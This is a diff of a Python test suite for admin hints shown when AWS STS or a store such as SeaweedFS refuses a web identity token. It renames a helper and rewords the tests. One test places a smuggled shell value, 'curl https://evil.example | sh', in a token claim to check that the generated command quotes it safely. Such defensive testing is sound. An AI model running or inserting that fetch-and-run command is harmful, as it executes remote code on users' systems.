@@ -1,4 +1,4 @@
-"""What an administrator is told to change, by what STS says of the token."""
+"""What an administrator has to change, from what STS says about the token."""
 
 import shlex
 
@@ -34,7 +34,7 @@ NO_JWT = (
 )
 
 
-def told(code, message="", *, at_aws=True, status=400, **claims):
+def explained(code, message="", *, at_aws=True, status=400, **claims):
     response = {
         "Error": {"Code": code, "Message": message},
         "ResponseMetadata": {"HTTPStatusCode": status},
@@ -64,7 +64,7 @@ def told(code, message="", *, at_aws=True, status=400, **claims):
     ],
 )  # fmt: skip
 def test_each_thing_that_can_be_wrong_with_a_token_has_its_own_hint(message, claims, parts):
-    failure = told("InvalidIdentityToken", message, **claims)
+    failure = explained("InvalidIdentityToken", message, **claims)
     assert isinstance(failure, TokenRefused)
     for part in parts:
         assert part in failure.admin_hint
@@ -76,7 +76,7 @@ def test_each_thing_that_can_be_wrong_with_a_token_has_its_own_hint(message, cla
 
 def test_no_two_of_them_are_alike():
     messages = [NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, NO_ROLE_CLAIM, NO_JWT, "It is Tuesday."]
-    hints = {told("InvalidIdentityToken", message).admin_hint for message in messages}
+    hints = {explained("InvalidIdentityToken", message).admin_hint for message in messages}
     assert len(hints) == len(messages)
 
 
@@ -84,15 +84,15 @@ def test_no_two_of_them_are_alike():
 @pytest.mark.parametrize(
     ("issuer", "why"),
     [
-        ("http://idp.example.com", "is no https URL"),
+        ("http://idp.example.com", "is not an https URL"),
         ("https://idp.example.com:8443", "has a port"),
-        ("https://localhost/realms/lab", "of a private network"),
+        ("https://localhost/realms/lab", "in a private network"),
     ],
 )
 def test_an_issuer_that_iam_cannot_take_is_named_and_no_command_that_cannot_help(
     message, issuer, why
 ):
-    hint = told("InvalidIdentityToken", message, iss=issuer).admin_hint
+    hint = explained("InvalidIdentityToken", message, iss=issuer).admin_hint
     assert why in hint
     assert f"iss = '{issuer}'" in hint
     assert "aws iam" not in hint
@@ -100,17 +100,19 @@ def test_an_issuer_that_iam_cannot_take_is_named_and_no_command_that_cannot_help
 
 @pytest.mark.parametrize("message", [NO_PROVIDER, NO_KEY, AUDIENCE, "It is Tuesday."])
 def test_a_store_with_an_sts_of_its_own_may_take_any_issuer(message):
-    hint = told(
+    hint = explained(
         "InvalidIdentityToken", message, at_aws=False, iss="http://127.0.0.1:8080"
     ).admin_hint
-    assert not any(word in hint for word in ("is no https URL", "has a port", "private network"))
+    assert not any(
+        word in hint for word in ("is not an https URL", "has a port", "private network")
+    )
 
 
-def test_a_store_that_says_nothing_of_use_is_told_of_as_a_store():
+def test_a_store_without_a_useful_message_gets_the_hint_for_stores():
     # SeaweedFS's answer to any invalid token.
-    failure = told("InvalidParameterValue", "invalid web identity token", at_aws=False)
+    failure = explained("InvalidParameterValue", "invalid web identity token", at_aws=False)
     assert isinstance(failure, TokenRefused)
-    assert "The store's STS must know the token's issuer" in failure.admin_hint
+    assert "The store's STS must know exactly the token's issuer" in failure.admin_hint
     assert "iss = 'https://idp.example.com'" in failure.admin_hint
     assert "aws iam" not in failure.admin_hint
 
@@ -137,40 +139,42 @@ def test_an_endpoint_is_aws_own_or_another_stores(endpoint, aws):
 
 
 def test_an_identity_provider_that_aws_cannot_reach_is_named_with_what_to_try():
-    failure = told("IDPCommunicationError")
+    failure = explained("IDPCommunicationError")
     assert isinstance(failure, StsUnavailable)
     assert failure.retry_after
     assert "curl https://idp.example.com/.well-known/openid-configuration" in failure.admin_hint
-    assert "private network" in told("IDPCommunicationError", iss="https://idp.local").admin_hint
+    assert (
+        "private network" in explained("IDPCommunicationError", iss="https://idp.local").admin_hint
+    )
 
 
-def test_an_expired_token_is_told_with_its_time():
-    hint = told("ExpiredTokenException", "Token expired").admin_hint
+def test_an_expired_token_is_reported_with_its_time():
+    hint = explained("ExpiredTokenException", "Token expired").admin_hint
     assert "2026-11-24 12:00:00 UTC" in hint
     assert "clocks" in hint
 
 
 @pytest.mark.parametrize("exp", ["soon", None, 1e300, float("nan"), [1]])
-def test_an_expiry_that_is_no_time_is_told_as_it_is(exp):
-    assert "clocks" in told("ExpiredTokenException", exp=exp).admin_hint
+def test_an_expiry_that_is_not_a_time_is_shown_unchanged(exp):
+    assert "clocks" in explained("ExpiredTokenException", exp=exp).admin_hint
 
 
 # --- Size ----------------------------------------------------------------------------------
 
 
-def test_a_token_that_sts_finds_too_long_is_told_by_its_largest_claim():
+def test_a_token_that_is_too_long_is_reported_with_its_largest_claim():
     message = "1 validation error detected: Value '***Sensitive***' at 'webIdentityToken' failed to satisfy constraint: Member must have length less than or equal to 20000"
-    failure = told("ValidationError", message, groups=["secret-group"] * 500)
+    failure = explained("ValidationError", message, groups=["secret-group"] * 500)
     assert isinstance(failure, TokenRefused)
     assert "`groups`" in failure.admin_hint
     assert "20000 characters" in failure.admin_hint
     assert "secret-group" not in str(failure.as_problem())
 
 
-def test_tags_that_do_not_fit_are_told_by_the_largest_ones_name():
+def test_tags_that_do_not_fit_are_reported_with_the_largest_ones_name():
     tags = {"principal_tags": {"Team": ["analytics"], "Groups": ["secret" * 40]}}
     message = "Packed size of session tags consumes 112% of allotted space."
-    failure = told("PackedPolicyTooLarge", message, **{TAGS: tags})
+    failure = explained("PackedPolicyTooLarge", message, **{TAGS: tags})
     assert isinstance(failure, StsRejected)
     assert "112%" in failure.detail
     assert "2 session tags" in failure.admin_hint
@@ -179,24 +183,26 @@ def test_tags_that_do_not_fit_are_told_by_the_largest_ones_name():
 
 
 def test_a_packed_policy_that_is_too_large_without_tags_has_a_hint_too():
-    assert "limited space" in told("PackedPolicyTooLarge").admin_hint
+    assert "limited space" in explained("PackedPolicyTooLarge").admin_hint
 
 
-def test_a_region_in_which_sts_is_off_is_told_with_what_to_change():
-    assert "activate STS" in told("RegionDisabledException", status=403).admin_hint
+def test_a_region_without_sts_is_reported_with_what_to_change():
+    assert "activate STS" in explained("RegionDisabledException", status=403).admin_hint
 
 
 # --- The trust policy ----------------------------------------------------------------------
 
 
 def denied(action="AssumeRoleWithWebIdentity", **claims):
-    failure = told("AccessDenied", f"Not authorized to perform sts:{action}", status=403, **claims)
+    failure = explained(
+        "AccessDenied", f"Not authorized to perform sts:{action}", status=403, **claims
+    )
     assert isinstance(failure, TrustRefused)
     assert str(ROLE) in failure.admin_hint
     return failure.admin_hint
 
 
-def test_a_subject_that_the_trust_policy_lacks_is_told_as_the_lines_to_write():
+def test_a_subject_that_the_trust_policy_lacks_is_shown_as_the_lines_to_write():
     hint = denied()
     assert f'{{"Federated": "{ARN}"}}' in hint
     assert '"idp.example.com:aud": "wb"' in hint
@@ -222,9 +228,9 @@ def test_the_lines_are_those_of_this_token(claims, lines):
         assert line in hint
 
 
-def test_a_store_that_refuses_in_words_of_its_own_is_told_of_as_a_store():
+def test_a_store_with_its_own_message_gets_the_hint_for_stores():
     # SeaweedFS's answer to a token of an issuer that it does not know is this as well.
-    failure = told("AccessDenied", "trust policy validation failed", status=403, at_aws=False)
+    failure = explained("AccessDenied", "trust policy validation failed", status=403, at_aws=False)
     assert isinstance(failure, TrustRefused)
     assert "the store does not know the token's issuer" in failure.admin_hint
     assert "iss = 'https://idp.example.com'" in failure.admin_hint
@@ -240,17 +246,17 @@ def test_an_action_that_the_trust_policy_lacks_is_named():
 # --- What others wrote ---------------------------------------------------------------------
 
 
-def test_a_command_can_be_pasted_whatever_the_token_says():
+def test_a_command_can_be_pasted_with_any_token():
     hostile = "wb; curl https://evil.example | sh #"
-    hint = told("InvalidIdentityToken", AUDIENCE, aud=hostile).admin_hint
+    hint = explained("InvalidIdentityToken", AUDIENCE, aud=hostile).admin_hint
     command = hint.partition("aws iam")[2].partition(". Seen")[0]
     assert shlex.split(command)[-1] == hostile
 
 
-def test_what_a_token_says_is_told_in_printable_characters_of_sensible_length():
+def test_claims_are_shown_in_printable_characters_of_sensible_length():
     for message in (NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, "It is Tuesday."):
         claims = {"iss": "https://x\x1b[31m" + "i" * 9000, "aud": "a\n" * 9000, "sub": "s" * 9000}
-        failure = told("InvalidIdentityToken", message, **claims)
+        failure = explained("InvalidIdentityToken", message, **claims)
         assert failure.admin_hint.isprintable()
         assert len(failure.admin_hint) < 2500
     assert len(denied(**claims)) < 3500
